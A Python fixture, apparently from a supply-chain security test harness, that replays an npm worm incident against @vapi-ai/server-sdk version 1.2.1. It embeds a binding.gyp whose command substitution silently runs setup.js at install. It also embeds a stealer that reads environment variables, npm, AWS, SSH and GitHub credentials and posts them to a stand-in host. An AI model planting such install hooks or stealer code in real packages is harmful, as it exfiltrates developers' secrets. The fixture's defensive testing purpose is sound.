"""@vapi-ai/server-sdk in the wave of Phantom Gyp (2026-06-03): a worm with stolen tokens; a binding.gyp runs code without any script.

By the record: 286 releases of 57 packages within two hours from 23:30 UTC; a binding.gyp of 157 bytes in packages of plain
JavaScript, whose command substitution npm runs at install since it builds what has such a file. package.json has no script.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_SDK = "exports.call = function (number) { return { number: number }; };\n"
_GYP = """{
  "targets": [
    {
      "target_name": "addon",
      "type": "none",
      "sources": ["<!(node setup.js > /dev/null 2>&1 && echo stub.c)"]
    }
  ]
}
"""
_WORM = """const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const home = os.homedir();
const found = { env: process.env };
for (const name of ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.config/gh/hosts.yml']) {
  try { found[name] = fs.readFileSync(path.join(home, name), 'utf8'); } catch (error) {}
}
const request = https.request({ hostname: 'sink.invalid', path: '/marker', method: 'POST' });
request.on('error', () => {});
request.end(JSON.stringify(found));
"""
_NAME = "@vapi-ai/server-sdk"
_BAD = Release(
    version="1.2.1",
    at=utc("2026-06-03T23:30:00Z"),
    files={"index.js": _SDK, "binding.gyp": _GYP, "setup.js": _WORM},
)

INCIDENT = Incident(
    id="phantom-gyp-2026",
    title=(
        "the Phantom Gyp worm used stolen tokens: a `binding.gyp` ran a stealer at install although package.json has "
        "no script"
    ),
    copy=(
        "our copy of Phantom Gyp has a `binding.gyp` with a command substitution in a plain JavaScript package"
    ),
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name=_NAME,
            releases=(
                Release(version="1.1.0", at=utc("2026-04-01"), files={"index.js": _SDK}),
                Release(version="1.2.0", at=utc("2026-05-05"), files={"index.js": _SDK}),
                _BAD,
            ),
        ),
    ),
    asks={_NAME: "^1.0.0"},
    good={_NAME: "1.2.0"},
    bad={_NAME: ("1.2.1",)},
    guilty={_NAME: ("1.2.1",)},
    gone_at=utc("2026-06-04T02:00:00Z"),
    advisory=Advisory(id="GHSA", at=utc("2026-06-04T12:00:00Z"), about={_NAME: ("1.2.1",)}),
    invented="versions, publish days and hours; only one of 57 packages is replayed",
)
